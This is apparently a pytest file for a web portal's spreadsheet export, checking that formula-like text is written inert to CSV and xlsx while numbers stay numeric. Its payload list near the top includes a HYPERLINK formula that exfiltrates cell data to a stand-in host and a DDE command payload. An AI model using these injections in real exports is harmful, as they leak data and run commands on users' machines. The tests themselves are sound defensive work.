"""What the portal writes into spreadsheets never runs as a formula, and numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

import spreadsheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_writes_formula_like_text_with_a_leading_apostrophe(text):
    data = spreadsheets.csv_bytes([["Tên", "Số"], [text, 12]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["Tên", "Số"], ["'" + text, "12"]]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_stores_formula_like_text_as_a_string_cell(text):
    workbook = Workbook()
    sheet = workbook.active
    spreadsheets.set_cell(sheet, 1, 1, text)
    spreadsheets.set_cell(sheet, 1, 2, 11799553, number_format="#,##0")
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    cells = load_workbook(buffer).active
    assert cells["A1"].data_type == "s"
    assert cells["A1"].value == text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    assert cells["B1"].data_type == "n"
    assert cells["B1"].value == 11799553


def test_plain_values_pass_unchanged():
    assert spreadsheets.inert("Công đoàn cơ sở") == "Công đoàn cơ sở"
    assert spreadsheets.inert(-5) == -5
    assert spreadsheets.inert(None) is None
    assert spreadsheets.csv_bytes([["a", None, -3]]).decode("utf-8-sig") == "a,,-3\r\n"


def test_append_row_keeps_empty_rows_in_place():
    sheet = Workbook().active
    spreadsheets.append_row(sheet, ["một"])
    spreadsheets.append_row(sheet, [])
    spreadsheets.append_row(sheet, ["=ba"])
    assert [sheet.cell(row=r, column=1).value for r in (1, 2, 3)] == ["một", None, "=ba"]
    assert sheet.cell(row=3, column=1).data_type == "s"
